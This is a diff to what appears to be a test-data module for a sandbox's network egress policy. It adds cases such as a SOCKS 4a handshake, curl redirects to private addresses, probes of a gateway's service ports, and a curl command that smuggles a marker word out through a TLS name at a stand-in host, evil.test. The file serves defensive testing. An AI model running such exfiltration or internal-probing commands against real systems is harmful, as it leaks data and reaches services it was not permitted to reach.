@@ -1,6 +1,7 @@
 """What is tried on the network, as data: each case is an act with a word in it by which the other end knows it.
 
-LISTED   a policy that names two ports of one host refuses it, and a policy that allows everything does not
+LISTED   a policy that names two ports of one host refuses it, and a policy that allows everything does not; one that
+         allows nothing, or networks only, refuses more of them
 CLOSED   no policy opens it: the address is private, a cloud's or the host's; the operator's setting opens it
 NEVER    nothing opens it, for it is neither TCP nor DNS; outside a sandbox the same act succeeds
 """
@@ -28,6 +29,7 @@ PRIVATE = {
 PRIVATE_V6 = "fd00:a701::1"
 METADATA = ("169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16", "192.0.0.192")
 UNUSABLE = ("224.0.0.251", "255.255.255.255", "240.0.0.1", "198.18.0.1")
+GATEWAY_PORTS = (21, 22, 25, 80, 111, 443, 2375, 3306, 5432, 6379, 7070, 8000, 8443, 9090, 10250)
 OWN = f"good.test:{PORT}"
 TWIN = f"twin.test:{PORT}"
 
@@ -70,6 +72,14 @@ def lookup(name: str, kind: int, server: str = DNS, over_tcp: bool = False) -> C
         "name": name.replace("*", word),
         "kind": kind,
         "over_tcp": over_tcp,
+    }
+
+
+def led(place: str) -> Case:
+    """A request to a host that sends whoever asks on to another place."""
+    return lambda word: {
+        "do": "run",
+        "line": f"curl -sSfL --max-time 5 http://good.test:{HTTP_PORT}/lead/{place}:{PORT}/{word}",
     }
 
 
@@ -135,6 +145,19 @@ LISTED: dict[str, Case] = {
     ),
     "SOCKS 5": lambda word: {"do": "tcp", "address": WEB, "port": 1080, "say": "\5\1\0" + word},
     "SOCKS 4": lambda word: {"do": "tcp", "address": WEB, "port": 1080, "say": f"\4\1\0\x50\xcb\0\x71\x16{word}\0"},
+    "SOCKS 4a": lambda word: {
+        "do": "tcp",
+        "address": WEB,
+        "port": 1080,
+        "say": f"\4\1\0\x50\0\0\0\1me\0{word}.test\0",
+    },
+    "a name in TLS that carries words out": lambda word: {
+        "do": "run",
+        "line": (
+            f"curl -sSk --max-time 5 --resolve {word}.evil.test:{TLS_PORT}:{WEB}"
+            f" https://{word}.evil.test:{TLS_PORT}/{word}"
+        ),
+    },
     "a redirect": lambda word: {
         "do": "run",
         "line": f"curl -sSfL --max-time 5 http://good.test:{HTTP_PORT}/redirect/{word}",
@@ -155,6 +178,7 @@ CLOSED: dict[str, tuple[Case, Case]] = {
     "a name that leads inside": (asks("inside.test"), asks("opened.test")),
     "an alias of one": (asks("alias.test"), asks("opened-alias.test")),
     "a name of the host": (asks("host.test"), asks("good.test")),
+    **{f"a redirect to {closed}": (led(closed), led(opened)) for closed, opened in [*PRIVATE.items()][:1]},
 }
 """Each with the same act where the operator has opened the address; good.test is an address of this host, too."""
 
@@ -163,6 +187,7 @@ CLOUD: dict[str, Case] = {
     **{f"no computer's: {address}": asks(address) for address in UNUSABLE},
     "the gateway": asks("10.0.0.1"),
     "the gateway's proxy": asks("10.0.0.1", 15001),
+    **{f"the gateway's port {port}": asks("10.0.0.1", port) for port in GATEWAY_PORTS},
     "the gateway as a proxy": lambda word: {
         "do": "tcp",
         "address": "10.0.0.1",
